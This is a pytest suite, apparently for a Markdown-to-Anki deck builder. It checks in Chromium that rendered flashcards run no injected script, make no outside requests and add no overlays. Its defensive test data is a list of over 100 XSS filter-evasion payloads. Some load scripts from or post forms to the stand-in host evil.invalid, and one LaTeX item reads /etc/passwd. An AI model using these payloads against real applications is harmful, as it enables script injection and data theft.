"""Nothing in the notes runs, loads or covers the screen: tried where it would, on packed cards in Chromium."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest

from hosts import page
from support import Anki, Project

if TYPE_CHECKING:
    from playwright.sync_api import Browser

# After the OWASP "XSS Filter Evasion Cheat Sheet" (cheatsheetseries.owasp.org), and what Anki adds to it.
# Every one of them would set window.ran, ask the host evil.invalid, or open a dialog.
ATTACKS = [
    "<script>window.ran=1</script>",
    "<SCRIPT SRC=https://evil.invalid/xss.js></SCRIPT>",
    "<script/src=//evil.invalid/x.js></script>",
    "<<SCRIPT>window.ran=1;//\\<</SCRIPT>",
    "<script>window.ran=1",
    "<scr<script>ipt>window.ran=1</scr</script>ipt>",
    "</script><script>window.ran=1</script>",
    "\"><script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "<IMG SRC=\"javascript:window.ran=1;\">",
    "<IMG \"\"\"><SCRIPT>window.ran=1</SCRIPT>\"\\>",
    "<IMG SRC=/ onerror=\"window.ran=1\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097window.ran=1\">",
    "<IMG SRC=\"jav&#x09;ascript:window.ran=1;\">",
    "<IMG onmouseover=\"window.ran=1\">",
    "<img/src='x'/onerror=window.ran=1//",
    "<img src=https://evil.invalid/pixel.png>",
    "<img srcset='https://evil.invalid/a.png 1x' src=x>",
    "<svg/onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:window.ran=1\"><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=window.ran=1></style></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.ran=1>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=window.ran=1&gt;\">",
    "<math href=\"javascript:window.ran=1\">x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.ran=1>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>",
    "<body onload=window.ran=1>",
    "<BODY BACKGROUND=\"https://evil.invalid/b.png\">",
    "<iframe src=\"javascript:window.ran=1\"></iframe>",
    "<iframe srcdoc=\"<script>parent.ran=1</script>\"></iframe>",
    "<iframe src=https://evil.invalid/ <",
    "<object data=\"javascript:window.ran=1\"></object>",
    "<object data=https://evil.invalid/x></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+\">",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<style>@import 'https://evil.invalid/x.css';</style>",
    "<style>body{background:url(https://evil.invalid/b.png)}</style>",
    "<div style=\"position:fixed;inset:0;background:red\">cover</div>",
    "<div style=\"background-image:url(https://evil.invalid/b.png)\">x</div>",
    "<p style='width:expression(window.ran=1)'>x</p>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.invalid/\">",
    "<base href=\"https://evil.invalid/\">",
    "<form action=https://evil.invalid/><input name=a><button>send</button></form>",
    "<button onclick=window.ran=1>press</button>",
    "<input autofocus onfocus=window.ran=1>",
    "<select autofocus onfocus=window.ran=1>",
    "<textarea autofocus onfocus=window.ran=1></textarea>",
    "<details open ontoggle=window.ran=1><summary>x</summary>y</details>",
    "<video src=https://evil.invalid/v.mp4 autoplay onerror=window.ran=1></video>",
    "<audio src=https://evil.invalid/a.mp3 autoplay></audio>",
    "<video poster=https://evil.invalid/p.png></video>",
    "<marquee onstart=window.ran=1>x</marquee>",
    "<table background=https://evil.invalid/t.png><tr><td>x</td></tr></table>",
    "<a href=\"javascript:window.ran=1\">click</a>",
    "<a href=\" &#14; javascript:window.ran=1\">click</a>",
    "<a href=\"JaVaScRiPt:window.ran=1\">click</a>",
    "<a href=\"java\tscript:window.ran=1\">click</a>",
    "<a href=\"data:text/html,<script>opener.ran=1</script>\">click</a>",
    "<a href=\"vbscript:msgbox(1)\">click</a>",
    "<a href=x onclick=window.ran=1>click</a>",
    "<a href=x onmouseover=window.ran=1>over</a>",
    "[click](javascript:window.ran=1)",
    "[click](JAVASCRIPT:window.ran=1)",
    "[click](<javascript:window.ran=1>)",
    "[click](&#106;avascript:window.ran=1)",
    "[click](https://example.org/\"onclick=\"window.ran=1)",
    "![x](https://evil.invalid/x.png)",
    "![x\"onerror=\"window.ran=1](x.png)",
    "![x](data:image/svg+xml,<svg onload=window.ran=1>)",
    "https://example.org/\"onmouseover=\"window.ran=1",
    "<https://example.org/\"onmouseover=\"window.ran=1>",
    "<!--><script>window.ran=1</script>-->",
    "<!--[if IE]><script>window.ran=1</script><![endif]-->",
    "<![CDATA[<script>window.ran=1</script>]]>",
    "<?xml version=\"1.0\"?><script>window.ran=1</script>",
    "<xss onclick=window.ran=1 tabindex=1 id=x>x</xss>",
    "<template><script>window.ran=1</script></template>",
    "<plaintext>",
    "</article></div></body><script>window.ran=1</script>",
    "<textarea></textarea><img src=x onerror=window.ran=1>",
    "{{Question}}{{#Answer}}<script>window.ran=1</script>{{/Answer}}",
    "{{c1::<img src=x onerror=window.ran=1>}}",
    "[[type:Answer]] [sound:https://evil.invalid/a.mp3] [anki:tts lang=en_US]x[/anki:tts]",
    "\\(\\href{javascript:window.ran=1}{x}\\) \\[x\\] [latex]\\input{/etc/passwd}[/latex] [$]x[/$]",
    "$\\href{javascript:window.ran=1}{x}$",
    "`<img src=x onerror=window.ran=1>`",
    "**<img src=x onerror=window.ran=1>**",
    "| <img src=x onerror=window.ran=1> | b |\n| - | - |\n| <script>window.ran=1</script> | c |",
    "\u2028<script>window.ran=1</script>",
    "\x00<script>window.ran=1</script>",
    "＜script＞window.ran=1＜/script＞",
    "+ADw-script+AD4-window.ran=1+ADw-/script+AD4-",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "<xml:namespace prefix=t><t:set onbegin=window.ran=1>",
    "<svg><foreignObject><iframe src=\"javascript:window.ran=1\"></iframe></foreignObject></svg>",
    "<portal src=https://evil.invalid/></portal>",
    "<dialog open oncancel=window.ran=1><form method=dialog><button>x</button></form></dialog>",
    "<div popover id=p onbeforetoggle=window.ran=1>x</div><button popovertarget=p>y</button>",
    "<p contenteditable autofocus onfocus=window.ran=1>x</p>",
    "<a href=\"java&Tab;script:window.ran=1\">click</a>",
    "<a href=https://example.org/ ping=https://evil.invalid/ping>click</a>",
    "<image src=https://evil.invalid/i.png>",
    "[click](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuPTE8L3NjcmlwdD4=)",
    "[click][x]\n\n[x]: javascript:window.ran=1",
]  # fmt: skip

# Whatever a card may do by itself or under the mouse; what is left afterwards tells.
LIVE = """() => {
  for (const one of document.querySelectorAll("details")) one.open = true;
  for (const one of document.querySelectorAll("*")) {
    for (const kind of ["mouseover", "mouseenter", "focus", "error", "load", "toggle"]) one.dispatchEvent(new Event(kind));
    if (one.tagName !== "A" || !/^https?:/.test(one.href)) one.click && one.click();
  }
  const all = [...document.querySelectorAll("#qa *")];
  return {
    ran: window.ran,
    handlers: all.flatMap(one => [...one.attributes]).map(one => one.name).filter(name => name.startsWith("on")),
    elements: all.map(one => one.tagName.toLowerCase()),
    links: all.filter(one => one.href).map(one => one.href),
    covering: all.filter(one => ["fixed", "absolute", "sticky"].includes(getComputedStyle(one).position)).length,
  };
}"""

ALLOWED = set(
    "style article header span p h1 hr section footer a b blockquote br caption code del details div em h2 h3 h4 h5 h6 "
    "i img kbd li mark ol pre s small strong sub summary sup table tbody td th thead tr u ul".split()
)


def week(attack: str) -> str:
    """Return a week with an attack everywhere that people can write something: eight questions, or nearly."""
    line = re.sub(r"[\r\n]", " ", attack)
    return f"""---
tags: ["{line.replace('"', "'").replace(chr(92), "/")}"]
---
# Week 1
#### 하늘 {line}
1. 캐시란? {line} <!-- topics: 네트워크, {line} -->
```{re.sub("`", "", line)}
{attack}
```
{attack}

<b>{line}</b>

![{line}](no.png "{line}")

```html
{attack}
```
1-1. 꼬리 {line}
~~~
- {line}
~~~
2. `{line}` 큐란?
```
| {line} | b |
|---|---|
| c | {line} |
```
- {line} 왜?
    ```
    - {line}
      1. {line}
    ```
3. **{line}** 스택이란?

| a | {line} |
|---|---|
| {line} | d |

4. [{line}](https://example.org/ "{line}") 힙이란?

> {line}

- {line}
5. ![{line}](no.png) 트리란?

<details><summary>{line}</summary>

{attack}

</details>

6. {line}
```
{attack}
```
"""


@pytest.fixture(scope="module", params=[3, pytest.param(1, marks=pytest.mark.slow)])
def sides(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> list[str]:
    """Both sides of all cards, as Anki renders them; the quick tests try one attack in three."""
    folder = tmp_path_factory.mktemp("attacks")
    project = Project(folder / "project")
    attacks = ATTACKS[:: request.param]
    for number, attack in enumerate(attacks, 1):
        project.write(f"notes/{number:03}/week{number}.md", week(attack))
    project.write("ankigen.toml", "[card]\nmath = true\n")
    assert project.build("-q").exit_code == 0
    assert project.media() == {}
    anki = Anki(folder / "anki")
    anki.import_package(project.package)
    cards = [card for note in anki.notes() for card in note.cards()]
    rendered = [side for card in cards for side in (card.question(), card.answer())]
    anki.close()
    assert len(ATTACKS) >= 107
    assert len(cards) >= 7 * len(attacks)
    return rendered


def test_no_attack_runs_on_a_card(browser: Browser, sides: list[str]) -> None:
    asked: list[str] = []
    dialogs: list[str] = []
    tab = browser.new_page()
    tab.on("request", lambda request: asked.append(request.url))
    tab.on("dialog", lambda dialog: dialogs.append(dialog.message))
    for at in range(0, len(sides), 40):
        body = "".join(f'<div class="one">{side}</div>' for side in sides[at : at + 40])
        tab.set_content(page(body), wait_until="load")
        found = tab.evaluate(LIVE)
        assert found["ran"] is None
        assert found["handlers"] == []
        assert set(found["elements"]) <= ALLOWED
        assert found["covering"] == 0
        assert [link for link in found["links"] if not link.startswith(("https://", "http://", "mailto:"))] == []
        assert tab.evaluate("document.querySelectorAll('.one').length") == len(sides[at : at + 40]), (
            "no card breaks out"
        )
    tab.close()
    assert [url for url in asked if not url.startswith(("about:", "data:"))] == []
    assert dialogs == []


def test_the_test_would_notice(browser: Browser) -> None:
    tab = browser.new_page()
    tab.set_content(page("<img src=x onerror='window.ran=1'><form></form>"), wait_until="load")
    found = tab.evaluate(LIVE)
    tab.close()
    assert (found["ran"], found["handlers"], "form" in found["elements"]) == (1, ["onerror"], True)


def test_no_markup_in_a_heading_reaches_a_tag(project: Project) -> None:
    for number, attack in enumerate(ATTACKS, 1):
        line = re.sub(r"[\r\n]", " ", attack)
        project.write(
            f"notes/week{number}.md",
            f"# Week {number} {line}\n## 네트워크 {line}\n#### 하늘 {line}\n1. {number}번?\n```\n답\n```\n",
        )
    assert project.build("-q").exit_code == 0
    notes = project.notes()
    assert len(notes) == len(ATTACKS)
    tags = {tag for note in notes for tag in note.tags}
    assert not [tag for tag in tags if re.search("[<>]|&#?\\w+;", tag)]
    assert {tag.split("_")[0] for tag in tags if tag.startswith("person::")} == {"person::하늘"}


def test_nothing_typed_is_a_command_to_anki(sides: list[str], anki: Anki) -> None:
    commands = [command for side in sides for command in anki.commands(side)]
    assert commands == []
